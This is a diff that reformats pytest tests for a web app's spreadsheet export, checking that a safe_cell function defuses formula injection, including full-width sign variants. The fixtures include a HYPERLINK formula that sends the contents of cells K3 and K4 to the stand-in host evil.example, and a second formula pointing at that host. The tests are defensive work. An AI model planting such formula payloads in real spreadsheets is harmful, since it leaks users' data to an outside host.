@@ -22,17 +22,27 @@ from webapp.prizes.operations import mark_signed
 EVIL = '=HYPERLINK("http://evil.example/?"&K3&K4,"Подробнее")'
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    (EVIL, "'" + EVIL),
-    ("+7 (029) 123-45-67", "'+7 (029) 123-45-67"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),  # full-width equals sign
-    ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff20A1", "'\uff20A1"),
-    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("  =1+1", "'  =1+1"),
-    ("Сапего Иван Петрович", "Сапего Иван Петрович"), ("a=b", "a=b"), ("", ""),
-    (None, None), (150, 150),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (EVIL, "'" + EVIL),
+        ("+7 (029) 123-45-67", "'+7 (029) 123-45-67"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),  # full-width equals sign
+        ("\uff0b1", "'\uff0b1"),
+        ("\uff0d1", "'\uff0d1"),
+        ("\uff20A1", "'\uff20A1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("Сапего Иван Петрович", "Сапего Иван Петрович"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, None),
+        (150, 150),
+    ],
+)
 def test_safe_cell(value, expected):
     assert safe_cell(value) == expected
 
@@ -62,9 +72,13 @@ def test_a_payee_name_formula_is_text_in_the_register(app, api, played, drain, l
 
 
 def test_the_queue_export_neutralises_full_width_signs(app, api, login):
-    body = {"question": "\uff1dHYPERLINK(\"http://evil.example\") — вопрос с формулой?",
-            "answer": "=1+1", "authors": [{"name": "Автор", "city": "Минск"}],
-            "email": "formula@example.com", "consent": True}
+    body = {
+        "question": '\uff1dHYPERLINK("http://evil.example") — вопрос с формулой?',
+        "answer": "=1+1",
+        "authors": [{"name": "Автор", "city": "Минск"}],
+        "email": "formula@example.com",
+        "consent": True,
+    }
     assert api("post", "/api/v1/submissions", json=body).status_code == 201
     client = login("editor")
     r = client.get("/editor/export.xlsx?status=received")
